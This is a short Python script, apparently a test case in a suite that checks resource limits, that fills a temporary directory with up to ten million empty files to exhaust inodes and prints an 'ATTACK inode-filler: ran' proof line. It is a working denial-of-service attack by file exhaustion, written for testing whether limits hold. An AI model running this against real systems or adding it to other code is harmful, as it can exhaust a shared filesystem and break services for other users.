"""Creates empty files until no more can be made: millions, if nothing stops it.

victim: next
limit: files
proof: ATTACK inode-filler: ran
"""

import os

many = os.path.join(os.environ.get("TMPDIR", "."), "many")
made = 0
try:
    os.mkdir(many)
    for made in range(10**7):
        os.close(os.open(os.path.join(many, str(made)), os.O_CREAT | os.O_WRONLY, 0o600))
except OSError as error:
    print(f"{made} files: {error.strerror}", flush=True)
print("ATTACK inode-filler: ran", flush=True)
